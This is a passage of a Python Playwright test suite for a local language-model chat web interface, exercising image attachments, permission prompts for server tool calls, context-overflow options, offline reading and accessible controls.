        ("POST /v1/completions", '"text_completion"'),
        ("GET /api/models/{name}", '"demo"'),
        ("GET /version", '"quarrel"'),
    ):
        route = page.locator("details", has=page.locator(f"summary code:text-is('{name}')"))
        route.locator("summary").click()
        route.locator("button").click()
        page.wait_for_function("node => node.textContent.startsWith('200')", arg=route.locator("pre").element_handle())
        assert said in route.locator("pre").text_content()
    assert page.problems == page.foreign == []


@pytest.fixture(name="seeing", scope="module")
def _seeing(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    model = need_cases("qwen3vl") / "model-q4_0x.gguf"

    def load(source: str) -> Any:
        return quarrel.load(model, backend="cpu", compute="float32", n_ctx=2048)

    settings = Settings(data_dir=tmp_path_factory.mktemp("seeing"), chat_template="chatml", rates=Rates(requests=0))
    with running(settings, load) as live:
        live.client.post("/api/models/demo")
        yield live


def picture(kind: str, width: int = 64, height: int = 48) -> bytes:
    data = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 60)).save(data, kind)
    return data.getvalue()


DROPPED = """([name, type, bytes, kind]) => {
  const files = new DataTransfer(), file = new File([Uint8Array.from(atob(bytes), (c) => c.charCodeAt(0))], name, { type });
  files.items.add(file);
  const event = kind === "paste" ? new ClipboardEvent("paste", { clipboardData: files, bubbles: true, cancelable: true })
    : new DragEvent(kind, { dataTransfer: files, bubbles: true, cancelable: true });
  document.querySelector(kind === "paste" ? "#input" : "main").dispatchEvent(event);
}"""


def test_images_are_chosen_dropped_and_pasted_and_the_model_sees_them(browser: Any, seeing: Live) -> None:
    context = browser.new_context(viewport={"width": 412, "height": 860}, has_touch=True, is_mobile=True)
    context.add_init_script("localStorage.quarrelDefaults ??= JSON.stringify({options: {max_tokens: 4}})")
    page = context.new_page()
    sent: list[str] = []
    page.on("websocket", lambda ws: ws.on("framesent", lambda data: sent.append(data)))
    page.goto(seeing.url)
    page.wait_for_selector("button.camera", state="visible")
    assert page.get_attribute("#camera", "accept") == "image/*"
    assert page.get_attribute("#camera", "capture") == "environment"
    page.set_input_files("#camera", {"name": "a.jpg", "mimeType": "image/jpeg", "buffer": picture("JPEG", 2000, 1000)})
    page.wait_for_selector(".composer .picture")
    page.set_input_files("#files", {"name": "t.txt", "mimeType": "text/plain", "buffer": b"some text"})
    page.wait_for_selector(".composer .files li:nth-child(2)")
    png = base64.b64encode(picture("PNG")).decode()
    page.evaluate(DROPPED, ["b.png", "image/png", png, "dragover"])
    page.wait_for_selector("text=Drop files to attach them")
    both = f"(files) => files.forEach({DROPPED})"  # one is still read when the other comes
    page.evaluate(both, [["b.png", "image/png", png, "drop"], ["c.png", "image/png", png, "paste"]])
    page.wait_for_selector(".composer .files li:nth-child(4)")
    page.evaluate(DROPPED, ["d.png", "image/png", base64.b64encode(b"no picture").decode(), "drop"])
    page.wait_for_selector(".toast >> text=d.png could not be read")
    page.click("[aria-label='Show a.jpg']")
    size = page.eval_on_selector("dialog img", "(i) => [i.naturalWidth, i.naturalHeight]")
    assert size == [1536, 768]
    page.keyboard.press("Escape")
    page.click("[aria-label='Remove c.png']")
    shot(page, "images-phone")
    write(page, "What is it?")
    page.wait_for_selector(".message:last-child.assistant .actions")
    assert page.locator(".message.user .picture img").count() == 2
    body = next(m["payload"] for m in map(json.loads, sent) if m["type"] == "inference")
    parts = body["messages"][-1]["content"]
    assert [p["type"] for p in parts] == ["image_url", "image_url", "text"]
    assert [p["image_url"]["url"].split(";")[0] for p in parts[:2]] == ["data:image/jpeg", "data:image/png"]
    assert "some text" in parts[2]["text"]
    page.reload()
    page.wait_for_selector(".message.user .picture img >> nth=1")
    assert not page.locator(".failure").count()
    with page.expect_download() as download:
        page.click("[aria-label='Open the sidebar']")
        page.click("text=Settings")
        page.click("text=Export all")
    assert Path(download.value.path()).read_text("utf-8").count("data:image/") == 2
    context.close()


def test_a_model_without_eyes_is_sent_no_image(page: Any) -> None:
    page.wait_for_function("document.querySelector('.model .dot.loaded')")
    assert not page.locator("#camera").count()
    page.set_input_files("#files", {"name": "a.png", "mimeType": "image/png", "buffer": picture("PNG")})
    page.wait_for_selector(".toast >> text=reads text only")
    assert not page.locator(".composer .files li").count()


def calling(monkeypatch: pytest.MonkeyPatch, *rows: dict[str, Any], then: str = "") -> None:
    """The model calls these tools next, and then says this."""

    async def told(generation: Generation, which: int, timeout: float) -> AsyncIterator[Chunk]:
        if then:
            says(monkeypatch, then)
        end = [chunk async for chunk in chunks(generation, which, timeout)][-1]
        assert end.result is not None
        text = "".join(f"<tool_call>{json.dumps(row)}</tool_call>" for row in rows)
        end.result = replace(end.result, text=text)
        yield end

    monkeypatch.setattr(server_socket, "chunks", told)


def test_tools_of_the_server_run_when_a_person_allows_them(
    browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    mcp = pytest.importorskip("mcp.server")
    log: list[int] = []
    toys = mcp.MCPServer("toys")

    def double(n: int) -> int:
        log.append(n)
        return 2 * n

    def fail() -> str:
        raise ValueError("out of order")

    def wide(source: str) -> Any:  # tools take many tokens
        return quarrel.load(source, backend="cpu", n_ctx=4096, rope_scaling="yarn")

    toys.add_tool(double)
    toys.add_tool(fail)
    settings = Settings(data_dir=tmp_path, rates=Rates(requests=0), chat_template="chatml")
    with (
        Toolbox({"toys": toys}) as box,
        running(settings, wide, tools=box) as live,
    ):
        live.client.post("/api/models/demo")
        page = browser.new_context().new_page()
        page.add_init_script("localStorage.quarrelDefaults ??= JSON.stringify({options: {max_tokens: 1}})")
        sent: list[str] = []
        page.on("websocket", lambda ws: ws.on("framesent", lambda data: sent.append(data)))
        page.goto(live.url)
        page.wait_for_selector(".model .dot.loaded")
        calling(monkeypatch, {"name": "double", "arguments": {"n": 2}}, {"name": "double", "arguments": {"n": 3}})
        write(page, "double them")
        page.wait_for_selector(".call >> nth=1 >> text=wants to call double")
        assert log == []
        shot(page, "tools")
        page.click(".call >> nth=0 >> text=Don’t allow")
        page.wait_for_selector(".message.tool >> text=double was not allowed")
        says(monkeypatch, "So be it.")
        page.click(".call >> nth=1 >> button:text-is('Allow')")
        page.wait_for_selector(".prose >> text=So be it.")
        assert log == [3]
        turns = [json.loads(m)["payload"] for m in sent if '"inference"' in m][-1]["messages"]
        assert [(m["role"], m["content"]) for m in turns[2:]] == [
            ("tool", "The user did not allow this call."),
            ("tool", "6"),
        ]
        page.wait_for_selector(".message:last-child .actions")
        calling(monkeypatch, {"name": "fail", "arguments": {}}, {"name": "double", "arguments": {"n": 4}})
        write(page, "again")
        page.click(".call:has-text('\"n\": 4') >> text=Always allow")
        page.wait_for_selector(".message.tool >> text=Result of double")
        says(monkeypatch, "Broken.")
        page.click(".call:has-text('fail') >> button:text-is('Allow')")
        page.wait_for_selector(".message.tool >> text=fail failed")
        page.wait_for_selector(".prose >> text=Broken.")
        page.wait_for_selector(".message:last-child .actions")
        calling(monkeypatch, {"name": "double", "arguments": {"n": 5}}, then="At once.")
        write(page, "once more")
        page.wait_for_selector(".prose >> text=At once.")
        assert log == [3, 4, 5]
        page.keyboard.press("Control+.")
        page.click(".server-tools >> text=fail")
        says(monkeypatch, "Fewer.")
        write(page, "without")
        page.wait_for_selector(".prose >> text=Fewer.")
        tools = [json.loads(m)["payload"] for m in sent if '"inference"' in m][-1]["tools"]
        assert [tool["function"]["name"] for tool in tools] == ["double"]
        page.context.close()


def test_what_becomes_of_a_full_context_is_chosen_and_told(page: Any) -> None:
    text = "The king rode out to sea. " * 28
    write(page, f"First. {text}")
    answered(page)
    write(page, f"Second. {text}")
    answered(page)
    write(page, f"Third. {text}")
    page.wait_for_selector(".failure >> text=Summarise the oldest turns")
    page.click(".meter")
    assert page.get_attribute("[role=menuitemradio]:has-text('Stop')", "aria-checked") == "true"
    page.click("[role=menuitemradio]:has-text('Summarise')")
    page.click(".failure >> text=Again")
    page.wait_for_selector("text=did not see the 4 oldest messages")
    page.keyboard.press("Control+.")
    assert page.input_value("#set-overflow") == "summary"
    page.select_option("#set-overflow", "shift")
    write(page, f"Fourth. {text}")
    page.wait_for_selector(".message:last-child >> text=did not see the")
    page.reload()
    page.wait_for_selector(".message:last-child >> text=did not see the")


def test_what_was_said_can_be_read_without_the_server(browser: Any, tmp_path: Path) -> None:
    page = browser.new_context().new_page()
    with running(Settings(data_dir=tmp_path, rates=Rates(requests=0))) as live:
        page.add_init_script("localStorage.quarrelDefaults ??= JSON.stringify({options: {max_tokens: 8}})")
        page.goto(live.url)
        page.wait_for_selector("[data-state=connected]", state="attached")
        write(page, "Once upon a time")
        text = answered(page)
        page.evaluate("navigator.serviceWorker.ready.then((r) => r.active.state)")
    page.reload()
    assert answered(page) == text
    page.wait_for_selector("text=No connection")
    page.click("text=Settings")
    page.click("[role=menuitem]:has-text('Language')")
    page.select_option("#set-language", "de")
    page.wait_for_selector(".new >> text=Neues Gespräch")
    page.context.close()


SIZES: dict[str, dict[str, Any]] = {
    "desktop": {"viewport": {"width": 1280, "height": 800}, "color_scheme": "light"},
    "phone": {"viewport": {"width": 390, "height": 780}, "is_mobile": True, "has_touch": True, "color_scheme": "dark"},
}


@pytest.mark.parametrize("size", list(SIZES))
def test_a_newcomer_finds_everything_by_its_name(
    browser: Any, live: Live, monkeypatch: pytest.MonkeyPatch, size: str
) -> None:
    live.client.post("/api/models/demo")
    page = browser.new_context(**SIZES[size]).new_page()
    page.add_init_script("localStorage.quarrelDefaults ??= JSON.stringify({options: {max_tokens: 8}})")
    page.goto(live.url)

    def named(role: str, name: str) -> Any:
        return page.get_by_role(role, name=name, exact=True)

    def act(message: str, name: str) -> None:
        page.locator(message).last.hover()
        page.locator(message).last.get_by_role("button", name=name, exact=True).click()

    with page.expect_file_chooser() as chooser:
        named("button", "Attach files").click()
    chooser.value.set_files({"name": "notes.txt", "mimeType": "text/plain", "buffer": b"some notes"})
    page.wait_for_selector(".composer .files >> text=notes.txt")
    hold = asyncio.Event()
    says(monkeypatch, "A long", " answer", hold=hold)
    named("textbox", "Message").fill("What is in my notes?")
    named("button", "Send").click()
    page.wait_for_selector(".live >> text=A long answer")
    named("button", "Stop").click()
    named("button", "Send").wait_for()
    hold.set()
    says(monkeypatch, "<think>Hm.</think>\n\nYes.")
    act(".message.assistant", "Again")
    page.wait_for_selector(".message.assistant >> text=Yes.")
    page.get_by_role("group", name="Answer 2 of 2").wait_for()
    page.click(".message.assistant >> text=/^Thought/")
    page.wait_for_selector(".thoughts >> text=Hm.")
    act(".message.assistant", "Previous version")
    page.wait_for_selector(".message.assistant >> text=A long answer")
    act(".message.user", "Edit")
    named("textbox", "Edit").fill("And in the second line?")
    says(monkeypatch, "Nothing.")
    page.locator(".edit").get_by_role("button", name="Send").click()
    page.wait_for_selector(".message.assistant >> text=Nothing.")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    if size == "phone":
        named("button", "Open the sidebar").click()
    named("searchbox", "Search conversations").fill("second line")
    page.wait_for_selector(".list a:has-text('And in the second line?')")
    page.context.close()
